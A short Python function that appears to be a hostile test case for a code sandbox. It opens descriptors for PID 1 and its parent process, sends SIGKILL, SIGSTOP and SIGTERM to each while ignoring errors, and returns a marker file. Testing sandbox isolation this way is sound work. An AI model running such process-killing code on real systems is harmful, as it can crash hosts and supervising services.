import os
import signal


def run(inputs, options):
    """A descriptor of a process is no better than its number."""
    for process in (1, os.getppid() or 1):
        file = os.pidfd_open(process)
        for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM):
            try:
                signal.pidfd_send_signal(file, number)
            except OSError:
                pass
    return {"a.txt": "still there"}
